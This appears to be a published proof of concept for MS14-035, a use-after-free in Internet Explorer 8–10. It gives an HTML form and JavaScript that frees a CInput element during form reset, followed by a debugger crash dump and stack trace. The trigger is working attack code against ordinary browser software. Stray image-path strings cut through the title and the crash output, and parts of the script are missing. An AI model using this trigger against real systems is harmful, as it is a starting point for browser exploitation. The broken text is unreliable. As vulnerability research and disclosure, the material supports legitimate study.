Microsoft Internet Explorer 8/9/10 - 'CInput' Use-After-Free Crash (PoC) (MS14-035)







Exploit Title: MS14-035 Internet Explorer CInput Use-after-free POC
Product: Internet Explorer
Vulnerable version: 8,9,10
Date: 23.06.2014
Exploit Author: Drozdova Liudmila, ITDefensor Vulnerability Research Team (
Vendor Homepage:
Tested on: Window 7 SP1 x86 IE 7,8,9,10
CVE : unknown
<head><title>MS14-035 Internet Explorer CInput Use-after-free POC</title></head>

<form id="testfm">
<textarea id="child" value="a1" ></textarea>
<input id="child2" type="checkbox" name="option2" value="a2">Test check<Br>
<textarea id="child3" value="a2" ></textarea>
<input type="text" name="test1">


var startfl=false;

function changer() {
 // Call of changer function will happen inside mshtml!CFormElement::DoReset call, after execution of this function crash in DoReset will happen when accessing freed CInput element
   if (startfl) {
       document.getElementById("testfm").innerHTML = ""; // Destroy form contents, free next CInput in DoReset


document.getElementById("child2").checked = true;
startfl = true;
document.getElementById("testfm").reset(); // DoReset call




Crash details

(fd4.d84): Access violation - code c0000005 (first chance)
First chance exceptions are reported before any exception handling.
This exception may be expected and handled.
eax=6a5c0704ebx=0556b358 ecx=081c2848 edx=00000004 esi=081c2848 edi=00000002
eip=00000000 esp=025bce94 ebp=025bceb4 iopl=0         nv up ei pl zr na pe nc
cs=001b  ss=0023  ds=0023  es=0023  fs=003b  gs=0000             efl=00010246
00000000 ??              ???
0:004> kb
ChildEBP RetAddr  Args to Child
WARNING: Frame IP not in any known module. Following frames may be wrong.
025bce90 6a5d1742 091ac108 00001200 6aafcb54 0x0
025bceb4 6a733150 0556b358 091ac108 6a73311d mshtml!CFormElement::DoReset+0xea025bced0 6a7ef10b 0556b358 091ac108 0363d298 mshtml!Method_void_void+0x75
025bcf44 6a7fa6c6 0556b358 000003f2 00000001 mshtml!CBase::ContextInvokeEx+0x5dc
025bcf94 6a81738a 0556b358 000003f2 00000001 mshtml!CElement::ContextInvokeEx+0x9d
025bcfd0 6a79bc0e 0556b358 000003f2 00000001 mshtml!CFormElement::VersionedInvokeEx+0xf0
025bd024 6c38a26e 0363d838 000003f2 00000001 mshtml!PlainInvokeEx+0xeb
025bd060 6c38a1b9 08968530 000003f2 00000409 jscript!IDispatchExInvokeEx2+0x104
025bd09c 6c38a43a 08968530 00000409 00000001 jscript!IDispatchExInvokeEx+0x6a
025bd15c 6c38a4e4 000003f2 00000001 00000000 jscript!InvokeDispatchEx+0x98
025bd190 6c39d9a8 08968530 025bd1c4 00000001 jscript!VAR::InvokeByName+0x139
025bd1dc 6c39da4f 08968530 00000001 00000000 jscript!VAR::InvokeDispName+0x7d
025bd208 6c39e4c7 08968530 00000000 00000001 jscript!VAR::InvokeByDispID+0xce
025bd3a4 6c395d7d 025bd3bc 025bd500 0113ca98 jscript!CScriptRuntime::Run+0x2b80
025bd48c 6c395cdb 025bd500 00000000 00000000 jscript!ScrFncObj::CallWithFrameOnStack+0xce
025bd4d4 6c395ef1 025bd500 00000000 00000000 jscript!ScrFncObj::Call+0x8d
025bd550 6c39620a 0113ca98 025bd710 00000000 jscript!CSession::Execute+0x15f
025bd59c 6c39c3b9 08987c70 025bd710 025bd720 jscript!COleScript::ExecutePendingScripts+0x1bd
025bd600 6c39c1d1 08987c70 002d346c 6a75f7b0 jscript!COleScript::ParseScriptTextCore+0x2a4025bd628 6a75f774 08987c74 03dc016c 002d346cjscript!COleScript::ParseScriptText+0x30